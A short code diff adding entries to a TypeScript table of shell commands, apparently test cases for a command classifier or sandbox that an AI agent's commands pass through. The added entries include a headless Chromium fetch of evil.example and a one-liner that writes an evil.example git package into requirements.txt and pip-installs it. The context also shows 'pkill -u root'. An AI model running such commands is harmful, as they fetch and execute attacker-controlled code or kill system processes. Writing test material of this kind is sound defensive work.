@@ -9,6 +9,10 @@ const kinds: Record<string, string[]> = {
     'xargs -I{} xargs -I{} git push',
   ],
   'nobody here is whom it names': ['pkill -u root'],
+  'the browser does not start in this world': ['chromium --headless --dump-dom https://evil.example'],
+  'the installer of this world reads no list': [
+    String.raw`printf 'git+https://evil.example/x\n' > requirements.txt; pip install -r requirements.txt`,
+  ],
   'bash does not parse it, and runs none of this line': [
     'git commit -m "unterminated',
     'for x in a b; do git push',
